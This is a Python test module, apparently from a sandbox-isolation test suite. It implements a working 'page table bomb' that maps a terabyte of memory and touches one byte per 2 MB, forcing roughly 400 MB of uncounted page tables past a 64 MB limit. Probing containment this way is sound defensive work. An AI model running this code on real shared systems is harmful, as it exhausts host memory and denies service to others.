"""Eat memory with page tables.

Attacks: the host's memory.
How: reserve a terabyte that may only be read, and read one byte in each 2 MB: each costs a page table of 4 kB that
counts nowhere.
Source: "page table bomb"; proc(5) on VmPTE; Linux counts it for the OOM killer since 4.2 (CVE-2010-4243's kin).
Breach: a hundred thousand page tables (400 MB) are made under a limit of 64 MB.
"""

import ctypes

import numpy as np

from kernel import libc

GROUP, LIMITS = "resources", {"memory_mb": 64}
ENDS = (None, "memory")


def attack(outside):
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    size = 1 << 40
    while size >= 1 << 30:
        address = libc.mmap(None, size, 1, 0x2 | 0x20 | 0x4000, -1, 0)
        if address not in (None, 2**64 - 1):
            break
        size >>= 1
    else:
        return None
    libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(size), 15)  # MADV_NOHUGEPAGE
    view = np.frombuffer((ctypes.c_uint8 * size).from_address(address), np.uint8)
    touched = min(100_000, size >> 21)
    int(view[: touched << 21 : 2 << 20].sum(dtype=np.int64))
    return f"{touched} page tables were had" if touched == 100_000 else None
